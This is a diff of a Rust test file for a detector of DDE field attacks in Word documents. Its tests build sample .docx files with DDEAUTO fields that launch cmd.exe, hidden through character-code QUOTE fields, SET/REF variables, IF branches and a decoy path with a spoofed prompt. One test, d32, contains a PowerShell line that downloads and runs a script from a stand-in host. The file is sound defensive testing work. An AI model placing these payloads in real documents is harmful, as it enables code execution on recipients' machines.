@@ -1,169 +1,15 @@
-//! The cases of `spec/word.md` §0.8 and §1.10, by their ids, with the exact values of its tables.
+//! Word documents in Office Open XML (`spec/word.md` §1.10).
 
-mod support;
+use ddetect::{Carrier, Confidence, GapKind, Kind, Severity, Trigger, Verdict};
 
-use ddetect::{Carrier, Confidence, Finding, GapKind, Kind, Report, Severity, Trigger, Verdict};
-use support::docx::{
+use super::support::docx::{
     W, W_STRICT, begin, document, docx, end, field, instruction, paragraph, run, separate, simple,
     text, trimmed,
 };
-use support::package::{Package, R, attribute, rels};
-use support::payloads::{STD, STD_SERVICE, STD_TOPIC};
-use support::{analyze, dde, techniques};
-
-/// The tables' "CMD".
-const CMD: &str = r#"c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
-
-fn body(content: &str) -> Report {
-    analyze(&docx(content).build())
-}
-
-/// A field with this instruction text, nested fields given as markup.
-fn with_field(runs: &str) -> Report {
-    body(&paragraph(&field(runs)))
-}
-
-/// The one DDE finding, which must be the tables' "std".
-#[track_caller]
-fn std_case(report: &Report) -> &Finding {
-    let finding = only(report);
-    assert_eq!(finding.kind, Kind::DdeAuto, "{finding:#?}");
-    assert_eq!(finding.trigger, Trigger::Open);
-    assert_eq!(
-        finding.service.as_deref(),
-        Some(STD_SERVICE),
-        "{finding:#?}"
-    );
-    assert_eq!(finding.topic.as_deref(), Some(STD_TOPIC), "{finding:#?}");
-    assert_eq!(finding.item, None);
-    let command = finding.command.as_ref().unwrap();
-    assert_eq!(command.line, format!("{STD_SERVICE} {STD_TOPIC}"));
-    assert_eq!(command.image.as_deref(), Some("cmd.exe"));
-    assert_eq!(command.arguments.as_deref(), Some(STD_TOPIC));
-    assert_eq!(finding.severity, Severity::Critical);
-    assert!(finding.attack.contains(&"T1559.002"));
-    assert_eq!(report.verdict(), Verdict::Malicious);
-    finding
-}
-
-#[track_caller]
-fn only(report: &Report) -> &Finding {
-    let found = dde(report);
-    assert_eq!(found.len(), 1, "{report:#?}");
-    found[0]
-}
-
-#[track_caller]
-fn clean(report: &Report) {
-    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
-    assert!(dde(report).is_empty(), "{report:#?}");
-}
-
-/// A nested complex field with a cached result, as instruction text.
-fn nested(text: &str) -> String {
-    begin() + &instruction(text) + &separate() + &instruction("?") + &end()
-}
-
-#[test]
-fn f1() {
-    std_case(&with_field(&instruction(&format!(" {STD} "))));
-}
-
-#[test]
-fn f2_a_fragment_without_a_program() {
-    let report = with_field(&instruction("ddeauto ünicöde-test"));
-    let finding = only(&report);
-    assert_eq!(finding.kind, Kind::DdeAuto);
-    assert_eq!(finding.service.as_deref(), Some("ünicöde-test"));
-    assert_eq!(finding.topic, None);
-    assert_ne!(report.verdict(), Verdict::Malicious, "{finding:#?}");
-}
-
-#[test]
-fn f3_a_blank_in_a_nested_result_does_not_split() {
-    let runs = instruction("DDEAUTO ")
-        + &nested("QUOTE 99 109 100")
-        + &instruction(" ")
-        + &nested("QUOTE 47 107 32 99 97 108 99");
-    let report = with_field(&runs);
-    let finding = only(&report);
-    assert_eq!(finding.service.as_deref(), Some("cmd"));
-    assert_eq!(finding.topic.as_deref(), Some("/k calc"));
-    assert!(techniques(finding).contains(&"quote-codes"));
-    assert_eq!(report.verdict(), Verdict::Malicious);
-}
-
-#[test]
-fn f4_hexadecimal_codes_and_the_shape_synonym() {
-    let runs = instruction("DDEAUTO ")
-        + &nested("QUOTE 0x63 0x6d 0x64")
-        + &instruction(" ")
-        + &nested("SHAPE 47 99");
-    let report = with_field(&runs);
-    let finding = only(&report);
-    assert_eq!(finding.service.as_deref(), Some("cmd"));
-    assert_eq!(finding.topic.as_deref(), Some("/c"));
-    assert!(techniques(finding).contains(&"hex-codes"));
-    assert!(techniques(finding).contains(&"shape-alias"));
-}
-
-#[test]
-fn f5_inside_an_if() {
-    let inner = begin() + &instruction(r#"DDEAUTO cmd "/c calc""#) + &end();
-    let runs = instruction("IF 1 = 1 \"") + &inner + &instruction("\" \"no\"");
-    let report = with_field(&runs);
-    let finding = only(&report);
-    assert_eq!(finding.service.as_deref(), Some("cmd"));
-    assert!(techniques(finding).contains(&"nested-in-if"));
-}
-
-#[test]
-fn f6_quoted_text_is_no_field() {
-    clean(&with_field(&instruction(r#"QUOTE "DDEAUTO c:\\x""#)));
-}
-
-#[test]
-fn f7_single_backslashes() {
-    let report = with_field(&instruction(
-        r#"DDEAUTO "c:\windows\system32\cmd.exe" "/k""#,
-    ));
-    let finding = only(&report);
-    assert_eq!(finding.service.as_deref(), Some(STD_SERVICE));
-    assert_eq!(finding.topic.as_deref(), Some("/k"));
-    assert_eq!(
-        finding.command.as_ref().unwrap().image.as_deref(),
-        Some("cmd.exe")
-    );
-}
-
-#[test]
-fn f9_a_decoy_path_and_a_reassuring_prompt() {
-    let decoy =
-        r"C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe";
-    let text = format!(r#"DDEAUTO "{decoy}" "/c calc.exe" "for security reasons""#);
-    let report = with_field(&instruction(&text));
-    let finding = only(&report);
-    assert_eq!(
-        finding.command.as_ref().unwrap().image.as_deref(),
-        Some("cmd.exe")
-    );
-    assert_eq!(finding.topic.as_deref(), Some("/c calc.exe"));
-    assert_eq!(finding.item.as_deref(), Some("for security reasons"));
-    assert!(techniques(finding).contains(&"path-traversal"));
-    assert!(techniques(finding).contains(&"prompt-spoof"));
-}
-
-#[test]
-fn f10_literal_braces_are_inert() {
-    for report in [
-        with_field(&instruction(r#" { DDEAUTO cmd "/k" } "#)),
-        body(&paragraph(&text(r#"{ DDEAUTO cmd "/k" }"#))),
-    ] {
-        assert!(dde(&report).is_empty());
-        assert!(report.verdict() < Verdict::Suspicious, "{report:#?}");
-        assert!(report.findings().iter().all(|f| f.kind == Kind::Inert));
-    }
-}
+use super::support::package::{Package, R, attribute, rels};
+use super::support::payloads::{STD, STD_SERVICE, STD_TOPIC};
+use super::support::{analyze, dde, techniques};
+use super::{CMD, body, clean, codes, hex_codes, link, nested, only, std_case, with_field};
 
 #[test]
 fn d01_one_run() {
@@ -304,18 +150,6 @@ fn d12_text_in_the_instruction() {
     assert!(techniques(std_case(&report)).contains(&"text-in-instruction"));
 }
 
-/// Character codes of a text, decimal.
-fn codes(text: &str) -> String {
-    text.chars().map(|c| format!(" {}", u32::from(c))).collect()
-}
-
-/// Character codes of a text, hexadecimal.
-fn hex_codes(text: &str) -> String {
-    text.chars()
-        .map(|c| format!(" 0x{:x}", u32::from(c)))
-        .collect()
-}
-
 #[test]
 fn d13_quote_codes() {
     let runs = instruction("DDEAUTO ")
@@ -446,17 +280,6 @@ fn external(part: &str, kind: &str, target: &str) -> Package {
         )
 }
 
-#[track_caller]
-fn link(report: &Report, carrier: Carrier) -> &Finding {
-    let found: Vec<_> = report
-        .findings()
-        .iter()
-        .filter(|f| f.carrier == carrier)
-        .collect();
-    assert_eq!(found.len(), 1, "{report:#?}");
-    found[0]
-}
-
 #[test]
 fn d28_remote_template() {
     let report = analyze(
@@ -568,6 +391,122 @@ fn update_fields_and_dirty_make_plain_dde_automatic() {
         Severity::High,
         "one step lower, never dropped"
     );
+}
+
+/// SET, REF and the simple field around them, refreshed with the document: the idiom P8 of §0.5.
+#[test]
+fn d15_set_and_ref() {
+    let set = |name: &str, value: &str| {
+        let runs = instruction(&format!("SET {name} \""))
+            + &nested(&format!("QUOTE{}", codes(value)))
+            + &instruction("\"");
+        paragraph(&(begin() + &runs + &end()))
+    };
+    // A simple field within the instruction: its children are instruction text.
+    let simple = |name: &str| {
+        format!(
+            "<w:fldSimple w:instr=\" REF {name} \">{}</w:fldSimple>",
+            instruction("?")
+        )
+    };
+    let dde = begin() + &instruction("DDE ") + &simple("c") + &instruction(" ") + &simple("d");
+    let body = set("c", r"C:\windows\system32\cmd.exe")
+        + &set("d", "/c calc.exe")
+        + &paragraph(&(dde + &end()));
+    let settings =
+        format!("<w:settings xmlns:w=\"{W}\"><w:updateFields w:val=\"true\"/></w:settings>");
+    let relation = rels(&[("r", "settings", "settings.xml", false)]);
+    let report = analyze(
+        &docx(&body)
+            .part("word/settings.xml", settings)
+            .part("word/_rels/document.xml.rels", relation)
+            .build(),
+    );
+    let finding = only(&report);
+    assert_eq!(
+        (finding.kind, finding.trigger),
+        (Kind::DdeAuto, Trigger::Open)
+    );
+    assert_eq!(
+        finding.service.as_deref(),
+        Some(r"C:\windows\system32\cmd.exe")
+    );
+    assert_eq!(finding.topic.as_deref(), Some("/c calc.exe"));
+    assert_eq!(finding.item, None);
+    assert!(techniques(finding).contains(&"update-fields"));
+    assert_eq!(report.verdict(), Verdict::Malicious);
+}
+
+#[test]
+fn d16_a_document_variable() {
+    let runs =
+        instruction("DDEAUTO ") + &nested("DOCVARIABLE p1") + &instruction(" \"/k calc.exe\"");
+    let settings = format!(
+        "<w:settings xmlns:w=\"{W}\"><w:docVars><w:docVar w:name=\"p1\" w:val=\"{STD_SERVICE}\"/>\
+         </w:docVars></w:settings>"
+    );
+    let relation = rels(&[("r", "settings", "settings.xml", false)]);
+    let report = analyze(
+        &docx(&paragraph(&field(&runs)))
+            .part("word/settings.xml", settings)
+            .part("word/_rels/document.xml.rels", relation)
+            .build(),
+    );
+    assert!(techniques(std_case(&report)).contains(&"nested-field"));
+}
+
+#[test]
+fn d17_in_the_branch_of_a_condition() {
+    let inner = begin() + &instruction(STD) + &separate() + &instruction("!") + &end();
+    let runs = instruction("IF 1 = 1 \"") + &inner + &instruction("\" \"no\"");
+    assert!(techniques(std_case(&with_field(&runs))).contains(&"nested-in-if"));
+}
+
+/// A chunk of another format.
+#[test]
+#[ignore = "pending: rtf reader"]
+fn d30_a_chunk_of_rtf() {
+    let rtf = format!(
+        "{}{{\\field{{\\*\\fldinst DDEAUTO {}}}{{\\fldrslt x}}}}}}",
+        super::support::word::rtf::PRE,
+        super::support::word::rtf::plain(CMD),
+    );
+    let bytes = super::support::word::ooxml::chunk("rtf", rtf.as_bytes());
+    let report = analyze(&bytes);
+    let finding = std_case(&report);
+    let path: Vec<_> = finding.location.path().collect();
+    assert!(path.contains(&"word/afchunk.rtf"), "{path:?}");
+    assert!(!techniques(finding).contains(&"unreachable"));
+}
+
+/// Three fields, as a public test document has them: one that runs, one whose keyword is none, one
+/// in literal braces.
+#[test]
+fn d32_remains_of_other_commands() {
+    let script = "powershell.exe $e=(New-Object System.Net.WebClient).DownloadString\
+                  ('http://example.invalid/a.ps1');powershell -e $e ";
+    let first = format!(r#" DDEAUTO c:\\Windows\\System32\\cmd.exe "/k {script}" "#);
+    let second = format!(r#" System32\\cmd.exe "/k {script}" "#);
+    let third = format!(r#" {{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k {script}" }} "#);
+    let fields = [&first, &second, &third].map(|spelled| simple(spelled));
+    let report = body(&fields.concat());
+    let finding = only(&report);
+    assert_eq!(finding.kind, Kind::DdeAuto);
+    assert_eq!(
+        finding.service.as_deref(),
+        Some(r"c:\Windows\System32\cmd.exe")
+    );
+    assert_eq!(
+        finding.topic.as_deref(),
+        Some(format!("/k {script}").as_str())
+    );
+    assert_eq!(finding.location.field(), Some(1));
+    for other in report.findings().iter().filter(|f| f.kind != Kind::DdeAuto) {
+        assert_eq!(other.kind, Kind::Inert, "{other:#?}");
+        assert!(other.severity <= Severity::Low, "{other:#?}");
+    }
+    assert!(report.findings().len() <= 2, "{report:#?}");
+    assert_eq!(report.verdict(), Verdict::Malicious);
 }
 
 #[test]
